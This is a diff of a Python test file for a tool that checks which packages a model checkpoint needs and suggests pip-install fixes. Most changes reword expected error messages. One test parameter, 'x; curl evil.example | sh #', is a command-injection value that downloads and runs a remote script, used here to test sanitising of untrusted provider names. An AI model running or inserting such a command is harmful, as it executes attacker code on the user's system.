@@ -97,7 +97,7 @@ def test_what_is_not_installed_is_missing_with_the_command(checkpoint: Any, here
     here()
     assert network(checkpoint()) == Need(
         *("nn_module", "unet", "medseg 2.1", "", "missing"),
-        problem="is in medseg 2.1, and medseg is not installed",
+        problem="is provided by medseg 2.1, which is not installed",
         fix="pip install 'medseg==2.1'",
     )
 
@@ -107,7 +107,7 @@ def test_what_its_provider_has_given_up_is_missing(checkpoint: Any, here: Any) -
     need = network(checkpoint())
     assert (need.state, need.problem) == (
         "missing",
-        "is in medseg 2.1 and not in medseg 3.0, which is installed",
+        "is provided by medseg 2.1, but not by the installed medseg 3.0",
     )
     assert need.fix == "pip install 'medseg==2.1'"
 
@@ -127,7 +127,7 @@ def test_another_version_or_provider_has_drifted(checkpoint: Any, here: Any, ver
     here(version, name=name)
     need = network(checkpoint())
     assert (need.state, need.here) == ("drifted", f"{name} {version}")
-    assert need.problem == f"was provided by medseg 2.1 and is by {name} {version} now"
+    assert need.problem == f"was provided by medseg 2.1, and now by {name} {version}"
     assert need.fix == "pip install 'medseg==2.1' if results differ"
 
 
@@ -146,7 +146,7 @@ def test_names_of_a_stranger_stay_one_word_and_one_line(checkpoint: Any, here: A
     output = doctor(str(checkpoint(nn_module=record))).output
     assert "\x1b" not in output
     assert "pip install" not in output
-    assert "ask the author of the file which package to install: that names none" in output
+    assert "ask the author of the file which package to install; the file does not say" in output
 
 
 @pytest.mark.parametrize("provider", ["x; curl evil.example | sh #", "; ", "a; b"])
@@ -163,7 +163,10 @@ def test_what_was_never_in_a_package_says_so(checkpoint: Any, here: Any) -> None
     here()
     record = dict.fromkeys(UNET) | {"as": "net", "entry_point": "__main__:Net"}
     need = network(checkpoint(nn_module=record))
-    assert (need.state, need.problem) == ("missing", "was code of the process that saved it, __main__:Net")
+    assert (need.state, need.problem) == (
+        "missing",
+        "was registered in the process that saved it, __main__:Net",
+    )
     assert need.fix.startswith("for nn_module 'net' import the code that registers it")
 
 
@@ -178,7 +181,7 @@ def test_the_installed_packages_are_listed_once_however_many_are_missing(
     report = examine_checkpoint(path)
     assert len(listings) == 1
     assert [need.problem for need in report.needs if need.kind == "step"] == [
-        f"is in {name} 2.1, and {name} is not installed" for name in names
+        f"is provided by {name} 2.1, which is not installed" for name in names
     ]
 
 
@@ -207,7 +210,7 @@ def test_command_shows_the_fix_and_exits_with_1(checkpoint: Any, here: Any) -> N
     result = doctor(str(checkpoint()))
     assert result.exit_code == 1
     assert result.output.endswith(
-        "\n\nnn_module 'unet' is in medseg 2.1, and medseg is not installed\n"
+        "\n\nnn_module 'unet' is provided by medseg 2.1, which is not installed\n"
         "  fix: pip install 'medseg==2.1'\n"
     )
 
